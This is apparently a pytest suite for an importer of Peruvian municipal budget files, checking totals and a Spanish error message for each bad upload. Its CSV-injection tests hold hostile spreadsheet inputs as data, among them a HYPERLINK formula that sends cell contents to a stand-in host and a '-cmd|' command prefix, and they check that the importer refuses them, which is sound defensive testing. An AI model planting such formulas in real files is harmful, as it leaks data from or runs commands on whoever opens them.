"""Reading a planner's budget file: each format, and one Spanish message for each bad file."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from brechas_core import data
from brechas_core.imports import MAX_BYTES, Imported, InvalidFile, read_upload, template
from tests import samples


@pytest.fixture(scope="module")
def districts() -> pd.DataFrame:
    return data.load_districts()


@pytest.fixture(scope="module")
def mef_bytes() -> bytes:
    return samples.mef_csv(3_000)


def _reference(content: bytes) -> pd.DataFrame:
    """The MEF file's municipal totals computed the plain way, for comparison."""
    raw = pd.read_csv(io.BytesIO(content), dtype=str, encoding="utf-8-sig", keep_default_na=False)
    m = raw[raw["NIVEL_GOBIERNO"] == "M"].copy()
    m["ubigeo"] = m["DEPARTAMENTO_EJECUTORA"] + m["PROVINCIA_EJECUTORA"] + m["DISTRITO_EJECUTORA"]
    for c in ("MONTO_PIA", "MONTO_PIM", "MONTO_DEVENGADO"):
        m[c] = m[c].astype(float)
    return m


def _problem(name: str, content: bytes, **kwargs) -> str:
    with pytest.raises(InvalidFile) as caught:
        read_upload(name, content, **kwargs)
    return caught.value.message


# --------------------------------------------------------------------------------------
# MEF open data
# --------------------------------------------------------------------------------------


def test_mef_csv_totals_are_the_sum_of_every_row_of_each_municipality(mef_bytes):
    result = read_upload("2024-Gasto.csv", mef_bytes)
    ref = _reference(mef_bytes).groupby("ubigeo")[["MONTO_PIA", "MONTO_PIM", "MONTO_DEVENGADO"]]
    ref = ref.sum()
    assert result.kind == "mef"
    assert result.year == 2024
    assert result.keys == ("210101", "210102")
    totals = result.totals.set_index("ubigeo")
    np.testing.assert_allclose(totals["pia"], ref["MONTO_PIA"], rtol=1e-12)
    np.testing.assert_allclose(totals["pim"], ref["MONTO_PIM"], rtol=1e-12)
    np.testing.assert_allclose(totals["devengado"], ref["MONTO_DEVENGADO"], rtol=1e-12)
    np.testing.assert_allclose(
        totals["execution_pct"], 100 * ref["MONTO_DEVENGADO"] / ref["MONTO_PIM"]
    )


def test_mef_csv_pim_comes_only_from_month_zero_rows_and_devengado_from_the_months(mef_bytes):
    raw = _reference(mef_bytes)
    assert (raw.loc[raw["MES_EJE"] != "0", "MONTO_PIM"] == 0).all()
    assert (raw.loc[raw["MES_EJE"] == "0", "MONTO_DEVENGADO"] == 0).all()
    mb = read_upload("g.csv", mef_bytes).municipality("210101")
    puno = raw[raw["ubigeo"] == "210101"]
    assert mb.pim == pytest.approx(puno.loc[puno["MES_EJE"] == "0", "MONTO_PIM"].sum())
    assert mb.devengado == pytest.approx(puno.loc[puno["MES_EJE"] != "0", "MONTO_DEVENGADO"].sum())


def test_mef_csv_leaves_out_regional_and_national_rows_and_says_why(mef_bytes):
    result = read_upload("g.csv", mef_bytes)
    raw = pd.read_csv(io.BytesIO(mef_bytes), dtype=str, encoding="utf-8-sig")
    reasons = {lo.reason.split(":")[0]: lo.rows for lo in result.left_out}
    assert reasons == {
        "Otro nivel de gobierno (E": int((raw["NIVEL_GOBIERNO"] == "E").sum()),
        "Otro nivel de gobierno (R": int((raw["NIVEL_GOBIERNO"] == "R").sum()),
    }
    assert all("municipalidades" in lo.reason for lo in result.left_out)


def test_mef_csv_spending_by_function_adds_up_to_the_devengado(mef_bytes):
    mb = read_upload("g.csv", mef_bytes).municipality("210102")
    assert mb.has_functions
    assert mb.functions["devengado"].sum() == pytest.approx(mb.devengado)
    assert mb.functions["share_pct"].sum() == pytest.approx(100.0)
    assert "Saneamiento" in set(mb.functions["function_name"])


def test_mef_csv_projects_are_the_type_2_rows_with_their_cui_and_name(mef_bytes):
    mb = read_upload("g.csv", mef_bytes).municipality("210101")
    raw = _reference(mef_bytes)
    projects = raw[(raw["ubigeo"] == "210101") & (raw["TIPO_ACT_PROY"] == "2")]
    assert set(mb.projects["cui"]) == set(projects["PRODUCTO_PROYECTO"])
    assert mb.projects["devengado"].sum() == pytest.approx(projects["MONTO_DEVENGADO"].sum())
    assert mb.projects["project"].str.contains("DISTRITO DE PUNO").all()


def test_mef_csv_reads_the_same_without_a_bom(mef_bytes):
    with_bom = read_upload("a.csv", mef_bytes)
    without = read_upload("a.csv", mef_bytes.removeprefix(b"\xef\xbb\xbf"))
    pd.testing.assert_frame_equal(with_bom.totals, without.totals)


def test_mef_csv_of_two_years_reads_the_latest_and_leaves_the_other_out():
    a = samples.mef_csv(600, year=2023, ubigeos=("210101",))
    b = samples.mef_csv(600, year=2024, ubigeos=("210101",), seed=2)
    both = a + b.split(b"\n", 1)[1]
    result = read_upload("two.csv", both)
    assert result.years == (2023, 2024) and result.year == 2024
    assert any(lo.reason.startswith("Otro año (2023)") for lo in result.left_out)
    older = read_upload("two.csv", both, year=2023)
    assert older.year == 2023
    assert older.totals["pim"].sum() == pytest.approx(read_upload("a.csv", a).totals["pim"].sum())


def test_mef_csv_without_december_is_labelled_partial(mef_bytes):
    text = mef_bytes.decode("utf-8-sig")
    lines = text.splitlines()
    kept = [lines[0]] + [ln for ln in lines[1:] if int(ln.split(",")[1].strip('"')) <= 8]
    result = read_upload("2025-Gasto-Mensual.csv", "\n".join(kept).encode())
    assert result.partial
    assert result.partial_note == "ejecución hasta agosto"


# --------------------------------------------------------------------------------------
# Consulta Amigable
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "build"),
    [("consulta.xlsx", samples.consulta_xlsx), ("consulta.csv", samples.consulta_csv)],
)
def test_consulta_amigable_export_reads_labels_and_amounts_with_thousands(name, build):
    result = read_upload(name, build(), current_year=2030)
    assert result.kind == "consulta"
    assert result.year == 2024
    assert result.keys == ("210101", "210102")
    puno = result.municipality("210101")
    assert puno.name == "MUNICIPALIDAD PROVINCIAL DE PUNO"
    assert puno.sec_ejec == "301593"
    assert (puno.pia, puno.pim, puno.devengado) == (100_632_362, 136_718_073, 118_894_591)
    assert puno.execution_pct == pytest.approx(100 * 118_894_591 / 136_718_073)
    assert [lo.reason.split(":")[0] for lo in result.left_out] == ["Otro año (2023)"]


def test_consulta_amigable_html_saved_by_the_portal_reads_functions_of_one_municipality():
    result = read_upload("consulta.xls", samples.portal_xls(), current_year=2030)
    assert result.kind_label == "Consulta Amigable del MEF (.xls del portal (HTML))"
    assert result.year == 2024
    mb = result.municipality("210101")
    assert mb.pim == 136_718_073 and mb.devengado == 118_894_591  # the TOTAL row is skipped
    assert mb.functions.set_index("function_code")["devengado"].to_dict() == {
        "03": 45_000_000,
        "12": 2_000_000,
        "15": 50_000_000,
        "18": 21_894_591,
    }
    assert mb.functions.set_index("function_code").loc["18", "function_name"] == "Saneamiento"


def test_consulta_amigable_current_year_is_labelled_partial():
    result = read_upload("c.csv", samples.consulta_csv(), current_year=2024)
    assert result.partial and "fecha de la consulta" in result.partial_note
    assert not read_upload("c.csv", samples.consulta_csv(), current_year=2025).partial


def test_consulta_amigable_municipality_without_ubigeo_is_found_by_its_name(districts):
    rows = [[r[0], r[1], r[2], r[3].split("-", 1)[1], *r[4:]] for r in samples.ROWS]
    result = read_upload("c.csv", samples.consulta_csv(rows), districts=districts)
    assert result.keys == ("210101", "210102")
    assert any("por su nombre" in n for n in result.notes)
    unknown = read_upload("c.csv", samples.consulta_csv(rows))
    assert unknown.keys == ("ue-301593", "ue-301594")


@pytest.mark.skipif(not samples.CONSULTA_REAL.exists(), reason="needs ../shared/data/raw")
def test_the_real_consulta_amigable_export_gives_puno_2024_as_published(districts):
    content = samples.CONSULTA_REAL.read_bytes()
    result = read_upload(samples.CONSULTA_REAL.name, content, year=2024, districts=districts)
    puno = result.totals[result.totals["ubigeo"].str.startswith("21")]
    assert len(result.totals) == 1891 and len(puno) == 110
    assert round(puno["pim"].sum() / 1e6, 2) == 1681.96
    assert round(puno["devengado"].sum() / 1e6, 2) == 1299.20
    assert result.years == (2024, 2025)


# --------------------------------------------------------------------------------------
# The template
# --------------------------------------------------------------------------------------


def _filled_template_rows():
    return [
        list(template.COLUMNS),
        ["210101", "MUNICIPALIDAD PROVINCIAL DE PUNO", "2024", "18", "2345001",
         "MEJORAMIENTO DEL SERVICIO DE AGUA POTABLE EN PUNO", "0", "1,500,000", "1200000"],
        ["210101", "MUNICIPALIDAD PROVINCIAL DE PUNO", "2024", "3", "", "", "5000000",
         "6000000", "5500000.50"],
    ]  # fmt: skip


def _csv(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def test_template_csv_reads_functions_projects_and_amounts():
    result = read_upload("plantilla.csv", _csv(_filled_template_rows()))
    assert result.kind == "plantilla"
    mb = result.municipality("210101")
    assert (mb.pia, mb.pim, mb.devengado) == (5_000_000, 7_500_000, 6_700_000.5)
    assert mb.functions["function_code"].tolist() == ["03", "18"]
    assert mb.projects["cui"].tolist() == ["2345001"]


def test_template_xlsx_downloaded_from_the_page_reads_back_once_filled():
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(template.xlsx_bytes()))
    sheet = book["datos"]
    assert [c.value for c in sheet[1]] == list(template.COLUMNS)
    sheet.append(["210102", "MUNICIPALIDAD DISTRITAL DE ACORA", 2024, "12", None, None, 0, 10, 5])
    out = io.BytesIO()
    book.save(out)
    result = read_upload("plantilla.xlsx", out.getvalue())
    assert result.keys == ("210102",)
    assert "Se ignoró la fila de ejemplo de la plantilla." in result.notes


def test_template_uploaded_unchanged_asks_for_real_rows():
    message = _problem("plantilla.csv", template.csv_bytes())
    assert "solo la fila de ejemplo" in message


def test_template_ubigeo_written_as_a_number_by_excel_gets_its_leading_zero():
    rows = [list(template.COLUMNS), ["10101", "MUNICIPALIDAD", "2024", "", "", "", "0", "5", "1"]]
    assert read_upload("p.csv", _csv(rows)).keys == ("010101",)


# --------------------------------------------------------------------------------------
# Bad files: one Spanish message each, saying what to fix
# --------------------------------------------------------------------------------------


def test_a_semicolon_separated_file_is_refused_with_how_to_save_it_with_commas():
    message = _problem("c.csv", samples.consulta_csv(delimiter=";"))
    assert "«;» (punto y coma)" in message and "CSV (delimitado por comas)" in message


def test_a_tab_separated_file_is_refused_with_how_to_save_it_with_commas():
    assert "tabulaciones" in _problem("c.csv", samples.consulta_csv(delimiter="\t"))


def test_a_mef_file_missing_columns_names_them(mef_bytes):
    text = mef_bytes.decode("utf-8-sig").replace("MONTO_PIM", "PIM_X", 1)
    message = _problem("g.csv", text.encode())
    assert "le faltan columnas" in message and "`MONTO_PIM`" in message


def test_a_template_missing_columns_names_them():
    rows = [["ubigeo", "anio", "pim", "devengado"], ["210101", "2024", "1", "1"]]
    ok = read_upload("p.csv", _csv(rows))
    assert ok.keys == ("210101",)
    message = _problem("p.csv", _csv([["ubigeo", "anio", "devengado", "pim_x"], ["1"] * 4]))
    assert "No se reconocen las columnas" in message


def test_a_table_without_pim_and_devengado_is_not_recognised():
    message = _problem("x.csv", b"nombre,monto\nagua,100\n")
    assert "No se reconocen las columnas" in message and "`nombre`" in message


def test_text_in_an_amount_says_which_column_and_row(mef_bytes):
    text = mef_bytes.decode("utf-8-sig").splitlines()
    cells = next(csv.reader([text[5]]))
    cells[57] = "mil soles"  # MONTO_PIM
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    text[5] = out.getvalue().strip()
    message = _problem("g.csv", "\n".join(text).encode())
    assert "`MONTO_PIM` tiene texto donde debe ir un monto (fila 6: `mil soles`)" in message


def test_text_in_a_consulta_amount_uses_the_files_own_column_title():
    rows = [list(r) for r in samples.ROWS]
    rows[1][5] = "veinte millones"
    message = _problem("c.csv", samples.consulta_csv(rows))
    assert "`PIM` tiene texto donde debe ir un monto (fila 3: `veinte millones`)" in message


def test_a_negative_pim_is_refused_with_the_row_to_fix():
    rows = [list(r) for r in samples.ROWS]
    rows[0][5] = "-136,718,073"
    message = _problem("c.csv", samples.consulta_csv(rows))
    assert "monto negativo en la fila 2" in message and "no pueden ser negativos" in message


def test_a_file_over_10_mb_is_refused_before_reading():
    message = _problem("big.csv", b"a" * (MAX_BYTES + 1))
    assert "el máximo es 10 MB" in message and "Filtre en el portal" in message


@pytest.mark.parametrize(
    ("case", "content", "expected"),
    [
        ("png image", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "una imagen PNG"),
        ("pdf", b"%PDF-1.7\n...", "un PDF"),
        ("random bytes", bytes(range(256)) * 40, "binario"),
        ("old binary xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "(.xls binario)"),
        ("corrupt xlsx", b"PK\x03\x04garbage", "dañado"),
    ],
)
def test_a_binary_file_is_refused_with_what_it_is(case, content, expected):
    assert expected in _problem("datos.xlsx", content), case


@pytest.mark.parametrize(
    ("case", "content", "expected"),
    [
        ("zero bytes", b"", "vacío"),
        ("only blank lines", b"\n\n  \r\n", "vacío"),
        ("mef header only", None, "ninguna fila de datos"),
        ("consulta header only", ",".join(samples.HEADER).encode(), "ninguna fila con montos"),
    ],
)
def test_an_empty_file_is_refused_with_what_to_download(case, content, expected, mef_bytes):
    if content is None:
        content = mef_bytes.split(b"\n", 1)[0] + b"\n"
    assert expected in _problem("vacio.csv", content), case


def test_a_formula_in_a_project_name_is_refused_as_csv_injection():
    rows = _filled_template_rows()
    rows[1][5] = '=HYPERLINK("http://x.example/?q="&A1,"Ver")'
    message = _problem("p.csv", _csv(rows))
    assert "empieza como una fórmula" in message
    assert "`proyecto` en la fila 2" in message
    assert '(`=HYPERLINK("http://x.example/?q="&A1,"V…`)' in message


@pytest.mark.parametrize("start", ["+", "@", "-cmd|", "\t="])
def test_other_formula_starts_in_names_are_refused(start):
    rows = [list(r) for r in samples.ROWS]
    rows[0][3] = start + "SUM(A1)"
    assert "fórmula" in _problem("c.csv", samples.consulta_csv(rows))


def test_a_formula_in_a_mef_name_is_refused(mef_bytes):
    text = mef_bytes.decode("utf-8-sig")
    bad = text.replace('"MUNICIPALIDAD DISTRITAL DE ACORA"', '"=HYPERLINK(""x"")"', 1)
    assert "fórmula" in _problem("g.csv", bad.encode())


def test_a_quoted_name_is_plain_text_in_the_message():
    rows = [list(r) for r in samples.ROWS]
    rows[0][5] = "[clic](http://x.example) `x`"
    message = _problem("c.csv", samples.consulta_csv(rows))
    assert "`[clic](http://x.example) ˋxˋ`" in message


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=400))
def test_any_bytes_give_a_result_or_a_spanish_message_never_a_crash(content):
    try:
        result = read_upload("x.csv", content)
    except InvalidFile as err:
        assert err.message and err.message[0].isupper()
    else:
        assert isinstance(result, Imported)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=12), min_size=1, max_size=6))
def test_any_table_under_the_consulta_header_gives_a_result_or_a_message(rows):
    content = samples.consulta_csv(rows)
    try:
        read_upload("c.csv", content)
    except InvalidFile as err:
        assert err.message
